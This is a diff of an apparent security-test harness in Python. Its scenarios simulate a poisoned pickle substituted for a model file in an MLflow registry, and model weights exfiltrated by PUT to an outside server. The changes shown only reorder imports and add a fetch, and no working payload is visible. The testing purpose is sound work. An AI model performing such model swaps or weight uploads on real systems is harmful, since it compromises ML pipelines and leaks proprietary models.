@@ -135,8 +135,8 @@ with ThreadPoolExecutor(6) as pool:
 
 def registry(work, stack):
     """MLflow: an experiment, a model from the trainer, fetched by the agent; then another workload puts a pickle in its place."""
-    from safetensors.numpy import save_file
     import numpy as np
+    from safetensors.numpy import save_file
     save_file({"layer.weight": np.arange(2048, dtype="f4").reshape(32, 64)}, work / "model.safetensors")
 
     class Poison:
@@ -163,6 +163,7 @@ with mlflow.start_run(): mlflow.log_metric("loss", 0.25)
         get(AGENT, f"{base}/model.safetensors")
         put(LAPTOP, work / "model.pkl", f"{base}/tokenizer.pkl")
         get(AGENT, f"{base}/tokenizer.pkl")
+        get(LAPTOP, f"{base}/model.safetensors")
 
 
 def put(source, path, url):
@@ -175,8 +176,8 @@ def get(source, url):
 
 def exfiltration(work, stack):
     """Weights leave for a server outside, in a PUT as any file share takes it; before that a small text, which may."""
-    from safetensors.numpy import save_file
     import numpy as np
+    from safetensors.numpy import save_file
     save_file({"layer.weight": np.random.default_rng(1).random((64, 128), "f4")}, work / "weights.safetensors")
     (work / "notes.txt").write_text("Minutes of the meeting: nothing was decided.\n")
     (work / "outside.py").write_text(f"""
